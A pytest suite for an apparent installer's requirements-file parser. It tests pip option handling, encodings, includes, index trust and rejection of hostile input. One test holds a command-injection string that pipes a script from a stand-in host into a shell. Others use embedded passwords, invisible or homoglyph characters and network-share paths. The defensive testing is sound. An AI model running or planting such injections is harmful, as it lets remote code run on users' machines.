"""Requirement files: options, includes, encodings, and what their authors may have meant badly."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from addons.projects.project_files import told

from assistant.install.environments import target_or_default
from assistant.model.errors import BadInput
from assistant.model.plan import Backend, Plan
from assistant_addons.projects.project import Project
from assistant_addons.projects.read import read_project

Read = Callable[..., Project]


@pytest.fixture
def read(tmp_path: Path) -> Read:
    """Give a function that writes files and reads the first."""

    def reader(
        text: str | bytes, name: str = "requirements.txt", trusted: tuple[str, ...] = (), **more: str
    ) -> Project:
        path = tmp_path / name
        path.write_bytes(text.encode() if isinstance(text, str) else text)
        for other, content in more.items():
            (tmp_path / f"{other}.txt").write_text(content, encoding="utf-8")
        return read_project(str(path), trusted=trusted)

    return reader


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("numpy", "numpy"),
        ("  numpy >= 1.26 , < 2  # why", "numpy<2,>=1.26"),
        ("fair-esm[esmfold]==2.0.0", "fair-esm[esmfold]==2.0.0"),
        ('triton>=2;platform_machine=="x86_64" and sys_platform=="linux"',
         'triton>=2; platform_machine == "x86_64" and sys_platform == "linux"'),
        ("torch==2.7.0+cu128", "torch==2.7.0+cu128"),
        ("torch==2.9.1 --hash=sha256:aa --hash=sha256:bb", "torch==2.9.1"),
        ("numpy \\\n  >=1.26 \\\n  # a remark\n", "numpy>=1.26"),
        ("https://h.example/a_b-1.0-py3-none-any.whl#sha256=00", "a-b @ https://h.example/a_b-1.0-py3-none-any.whl#sha256=00"),
        ("x @ https://h.example/x-1.0%2Bcu128-py3-none-any.whl",
         "x @ https://h.example/x-1.0%2Bcu128-py3-none-any.whl"),
    ],
)  # fmt: skip
def test_a_line_is_read_as_pip_reads_it(read: Read, line: str, expected: str) -> None:
    """Markers, extras, local versions, comments, continued lines and wheels by their address."""
    assert read(line).requires == (expected,)


@pytest.mark.parametrize("mark", ["utf-8-sig", "utf-16", "utf-16-le", "gb18030"])
def test_any_encoding_is_read(read: Read, mark: str) -> None:
    """PowerShell's UTF-16, a byte order mark and a Chinese code page change nothing."""
    assert read("# 深度学习\nnumpy\r\ntorch==2.9.1\r\n".encode(mark)).requires == ("numpy", "torch==2.9.1")


def test_included_files_are_read_in_their_place(read: Read) -> None:
    """Lines of -r are requirements, those of -c are bounds; a cycle is read once."""
    found = read("-r base.txt\n-c bounds.txt\nscipy\n", base="numpy\n-r requirements.txt\n", bounds="pandas<3\n")
    assert (found.requires, found.constraints) == (("numpy", "scipy"), ("pandas<3",))
    assert [Path(path).name for path in found.paths] == ["requirements.txt", "base.txt", "bounds.txt"]


@pytest.mark.parametrize("scheme", ["https://h.example/", "ftp://h.example/"])
def test_source_code_is_left_out_with_the_command_for_it(read: Read, scheme: str) -> None:
    """Archives and repositories run their author's code when they are built."""
    found = read(f"{scheme}a-1.tar.gz\ngit+https://h.example/b.git@1f#egg=b\n-e git+https://h.example/c.git#egg=c\nd\n")
    assert found.requires == ("d",)
    for address in (f"{scheme}a-1.tar.gz", "'git+https://h.example/b.git@1f#egg=b'", "git+https://h.example/c.git"):
        assert f"`pip install {address}`" in told(found)


def test_a_command_to_paste_holds_nothing_but_the_address(read: Read) -> None:
    """Whatever a stranger writes behind an address stays within quotation marks."""
    found = read('numpy\ngit+https://h.example/x.git"; curl h.example | sh; "\n')
    assert """`pip install 'git+https://h.example/x.git"; curl h.example | sh; "'`""" in told(found)


@pytest.mark.parametrize(
    "line",
    [
        r"\\server\share\x-1-py3-none-any.whl",
        "-e //server/share",
        "-r //server/share/x.txt",
        "x @ file://server/share/x-1-py3-none-any.whl",
        "x @ file:////server/share/x-1-py3-none-any.whl",
        "x @ file:///%2Fserver/share/x-1-py3-none-any.whl",
        r"x @ FILE:///\\server\share/x-1-py3-none-any.whl",
    ],
)
def test_no_other_computer_is_asked_for_a_file(read: Read, line: str) -> None:
    """A share is not opened because a list names it: that would tell its owner who reads."""
    found = read(f"numpy\n{line}\n")
    assert found.requires == ("numpy",)
    assert len(found.left_out) == 1


def test_the_plan_chooses_the_index_of_torch(read: Read) -> None:
    """Of torch's own indexes the build is taken along, PyPI is not; another one needs the user's word."""
    own, pypi = "https://company.example/simple", f"https://pypi.{'org'}/simple/"
    text = f"--index-url {pypi}\n--extra-index-url https://download.pytorch.org/whl/cu121\n--extra-index-url {own}\nx\n"
    found = read(text)
    assert found.indexes == ()
    assert found.builds == ("cu121",)
    assert f"{own} is not known" in told(found)
    assert pypi not in told(found)
    assert read(text, trusted=(own,)).indexes == (own,)


def test_wheels_elsewhere_need_the_users_word(read: Read, tmp_path: Path) -> None:
    """A folder or page that the file names is taken only where the user names it, too."""
    page = "https://h.example/whl/torch-2.9.html"
    text = f"--find-links wheels\n-f {page}\n"
    assert read(text).links == ()
    assert read(text, trusted=(page, str(tmp_path / "wheels"))).links == (str(tmp_path / "wheels"), page)


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url https://me:hunter2secret@h.example/simple",
        "-f https://me:hunter2secret@h.example/page.html",
        "x @ https://me:hunter2secret@h.example/x-1-py3-none-any.whl",
        "git+https://me:hunter2secret@h.example/x.git",
        "https://me:hunter2secret@h.example/x.tar.gz",
        "--index-url https://me:hunter2secret@download.pytorch.org/whl/cu121",
        "-r https://me:hunter2secret@h.example/req.txt",
        "--pre https://me:hunter2secret@h.example/x",
        "numpy==1.0https://me:hunter2secret@h.example/",
        "--no-binary https://me:hunter2secret@h.example/x",
        f"https://me:hunter2secret@h.example/{'x' * 300}",
    ],
)
def test_a_password_is_neither_taken_nor_shown(read: Read, line: str) -> None:
    """What stands before the @ of an address stays where it is."""
    found = read(line, trusted=("https://h.example/simple", "https://h.example/page.html"))
    assert found.left_out
    assert "hunter2secret" not in told(found) + repr(found)


def test_pypi_is_known_by_its_own_address_alone(read: Read) -> None:
    """Whoever has a like name serves what he likes."""
    assert "https://pypi.example/simple is not known" in told(read("--index-url https://pypi.example/simple\nx\n"))
    assert "https://pypi.xyz/simple is not known" in told(read("--index-url https://pypi.xyz/simple\nx\n"))


def test_what_conda_built_elsewhere_is_taken_from_pypi(read: Read, tmp_path: Path) -> None:
    """`pip freeze` of a conda environment names conda's folders; what else lay on another computer is left out."""
    found = read(
        "numpy @ file:///croot/numpy_and_numpy_base_1708638617955/work/dist/numpy-1.26.4-cp310-cp310-linux_x86_64.whl"
        "#sha256=d8\nsix @ file:///tmp/build/80754af9/six_1644875935023/work\n"
        "certifi @ file:///C:/b/abs_f9/croot/certifi_1707229174982/work/certifi ; python_version > '3'\n"
        f"mine @ file:///gone/mine\nx @ file:///gone/x-1-py3-none-any.whl\nhere @ {tmp_path.as_uri()}\n"
    )
    assert found.requires == ("numpy==1.26.4", "six", 'certifi; python_version > "3"')
    assert "taken from PyPI: numpy==1.26.4, six, certifi" in told(found)
    assert told(found).count("it lies on another computer") == 2
    assert "here @" not in told(found)
    assert "is the project's own code" in told(found)


@pytest.mark.parametrize("name", ["requirements.txt", "more/environment.yml", "pyproject.toml", "run.py"])
def test_a_file_without_its_option_is_no_package(read: Read, tmp_path: Path, name: str) -> None:
    """`pip install requirements.txt` means the file; some packages are called like files."""
    (tmp_path / "run.py").write_text("")
    found = read(f"discord.py\nruamel.yaml\n{name}\n", name="list.txt")
    assert found.requires == ("discord.py", "ruamel.yaml")
    assert f"{name} was left out: it is the name of a file" in told(found)


def test_a_name_that_begins_like_a_repository_is_a_folder(read: Read) -> None:
    """`-e gitlab_tools` is not PyPI's project of the name."""
    assert read("numpy\n-e gitlab_tools\n-e git@h.example:x.git\n").requires == ("numpy",)


def test_a_line_of_a_megabyte_is_left_out_at_once(read: Read) -> None:
    """Nobody writes one, and the patterns would look back over all of it."""
    found = read(f"numpy\na{'.zip' * 10**6}\nx=={'1' * 5000}\n")
    assert found.requires == ("numpy",)
    assert told(found).count("it is too long") == 2


@pytest.mark.skipif(os.name == "nt", reason="links need a privilege on Windows")
def test_a_link_to_itself_is_no_file(read: Read, tmp_path: Path) -> None:
    """Neither where it is named nor where it lies beside."""
    (tmp_path / "loop.txt").symlink_to("loop.txt")
    with pytest.raises(BadInput, match="cannot be read"):
        read_project(str(tmp_path / "loop.txt"))
    with pytest.raises(BadInput, match="not there or is not a file"):
        read("-r loop.txt\n")


def test_hashes_are_told(read: Read) -> None:
    """They name the files of one index, and a plan may take another build."""
    found = read("torch==2.9.1 --hash=sha256:aa\nnumpy==2.2 --hash=sha256:bb\n")
    assert "Hashes are not used: each file is checked against the hash that its index states." in told(found)


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("--pre", "pre-release"),
        ("--no-binary=opencc", "--no-binary opencc"),
        ("--trusted-host h.example", "--trusted-host"),
        ("--extra-index-url https://${TOKEN}@h.example/simple", "password"),
        ("x @ https://h.example/${TOKEN}/x-1-py3-none-any.whl", "variable"),
        ("pytz>dev", "not a valid requirement"),
        ("torch 2.0", "not a valid requirement"),
        ("nump\u200by", "invisible characters"),
        ("to\u202erch", "invisible characters"),
        ('x; sys_platform == "li\\u202enux"', "invisible characters"),
        ("t\u043erch", "not a valid requirement"),  # a Cyrillic o
        ("./not-there", "does not exist"),
        ("not-there.whl", "does not exist"),
        ("-e nowhere", "does not exist"),
        ("https://h.example/nonsense.whl", "not a valid name of a wheel"),
        ("-r https://h.example/more.txt", "on the network"),
        ("x @ ../y", "not a plain one"),
        ("--index-url not-an-address", "does not begin"),
        ("--nonsense", "--nonsense"),
        ('--hash="', ""),
    ],
)
def test_what_cannot_be_taken_along_is_told(read: Read, line: str, words: str) -> None:
    """One sentence each; the other lines stay."""
    found = read(f"numpy\n{line}\nscipy\n")
    assert found.requires == ("numpy", "scipy")
    assert words in told(found)


def test_code_of_the_project_itself_is_not_built(read: Read, tmp_path: Path) -> None:
    """`-e .` stands for what its pyproject declares, its extras included, and the command for afterwards is told."""
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname="mine"\ndependencies=["einops"]\noptional-dependencies={train=["wandb"]}\n'
    )
    found = read("numpy\n-e .[train]\n")
    assert found.requires == ("numpy", "einops", "wandb")
    assert "`pip install --no-deps -e .`" in told(found)


def test_a_wheel_beside_the_file_is_kept(read: Read, tmp_path: Path) -> None:
    """By its address, under its own name."""
    (tmp_path / "a_b-1.0-py3-none-any.whl").write_bytes(b"")
    whole = f"a-b @ {(tmp_path / 'a_b-1.0-py3-none-any.whl').as_uri()}"
    assert read("./a_b-1.0-py3-none-any.whl").requires == (whole,)
    linux = '; sys_platform == "linux"'
    assert read(f"./a_b-1.0-py3-none-any.whl {linux}").requires == (f"{whole} {linux}",)
    bound = read("-c bounds.txt\n", bounds="./a_b-1.0-py3-none-any.whl\n")
    assert (bound.requires, bound.constraints) == ((), (whole,))


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (b"numpy\0\n" * 9, "binary"),
        (b"\x7fELF" + bytes(range(256)) * 9, "binary"),
        (b"PK\x03\x04 zip", "binary"),
        (b"-r gone.txt\n", "gone.txt, which"),
        (b"<!DOCTYPE html>\n<html>\n<p>404</p>\n", "most of its lines are not requirements"),
        (b"# Title\n\nInstall it with pip.\nThen run it.\nDone\n", "most of its lines are not requirements"),
        (b"x y\n" * 20_000, "more than 10000 requirements"),
    ],
)
def test_what_is_no_list_is_refused(read: Read, text: bytes, words: str) -> None:
    """One sentence names the file and the reason."""
    with pytest.raises(BadInput, match=words):
        read(text)


def test_a_huge_file_is_refused(tmp_path: Path) -> None:
    """50 MB are not read."""
    with (tmp_path / "requirements.txt").open("wb") as file:
        file.truncate(50 * 10**6)
    with pytest.raises(BadInput, match="longer than 10 MB"):
        read_project(str(tmp_path / "requirements.txt"))
    with pytest.raises(BadInput, match="longer than 10 MB"):
        read_project(b"x" * 11 * 10**6)


@pytest.mark.parametrize("shape", ["wide", "deep"])
def test_includes_without_end_are_refused(read: Read, tmp_path: Path, shape: str) -> None:
    """10,000 files are not read, whether one names all of them or each the next."""
    for number in range(300):
        (tmp_path / f"{number}.txt").write_text(f"-r {number + 1}.txt\n" if shape == "deep" else "numpy\n")
    with pytest.raises(BadInput, match="more than 100"):
        read("".join(f"-r {number}.txt\n" for number in range(300)))


@pytest.mark.skipif(os.name == "nt", reason="Windows has no such files")
def test_a_pipe_or_a_folder_is_no_list(tmp_path: Path) -> None:
    """A pipe does not block, and a folder of the name is read as a folder."""
    os.mkfifo(tmp_path / "pipe.txt")
    with pytest.raises(BadInput, match="regular file"):
        read_project(str(tmp_path / "pipe.txt"))
    (tmp_path / "requirements.txt").mkdir()
    with pytest.raises(BadInput, match="contains neither a file that lists packages nor any code"):
        read_project(str(tmp_path / "requirements.txt"))
    with pytest.raises(BadInput, match="contains neither a file that lists packages nor any code"):
        read_project(str(tmp_path))


@pytest.mark.parametrize("name", ["gone.txt", "a\0b.txt", "https://h.example/requirements.txt", ""])
def test_a_name_that_leads_nowhere_is_refused(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """One sentence, whatever the name."""
    monkeypatch.chdir(tmp_path)
    with pytest.raises(BadInput):
        read_project(name)


def test_a_text_that_came_alone_names_nothing_beside_it() -> None:
    """What an upload includes is told."""
    found = read_project(b"numpy\n-r base.txt\n-e .\n./x.whl\n--nonsense\n")
    assert found.requires == ("numpy",)
    assert len(found.left_out) == 4
    assert "--nonsense in stdin was ignored." in told(found)


@pytest.mark.process
def test_pip_reads_the_same(read: Read, tmp_path: Path) -> None:
    """Of a file without traps, pip's own parser finds the same requirements."""
    text = (
        "# top\nnumpy>=1.26 # why\n  scipy\n\ntorch==2.9.1 \\\n    --hash=sha256:aa\n"
        'triton>=3;sys_platform=="linux"\nfair-esm[esmfold]\n-r more.txt\n'
    )
    found = read(text, more="pandas\n")
    program = (
        "import sys; from pip._internal.network.session import PipSession;"
        "from pip._internal.req.req_file import parse_requirements;"
        "from packaging.requirements import Requirement;"
        "print(*[Requirement(one.requirement) for one in parse_requirements(sys.argv[1], PipSession())], sep='\\n')"
    )
    done = subprocess.run(
        [sys.executable, "-c", program, tmp_path / "requirements.txt"], capture_output=True, text=True, check=True
    )
    assert done.stdout.splitlines() == list(found.requires)


def test_two_projects_never_share_an_environment(tmp_path: Path) -> None:
    """Two folders may have one name and one plan; the same project keeps its place."""
    names = []
    for owner in ("ann", "bob"):
        folder = tmp_path / owner / "My App"
        folder.mkdir(parents=True)
        (folder / "requirements.txt").write_text("numpy", encoding="utf-8")
        found = read_project(str(folder))
        assert read_project(str(folder / "requirements.txt")).name == found.name
        plan = Plan(backend=Backend.CUDA, variant="cu130", torch="2.15.0", python="3.12", name=found.name)
        names.append(Path(target_or_default(plan, "")).name)
    assert names[0] != names[1]
    assert all(re.fullmatch(r"my-app-[0-9a-f]{4}-cuda-torch2\.15\.0-py3\.12", name) for name in names)
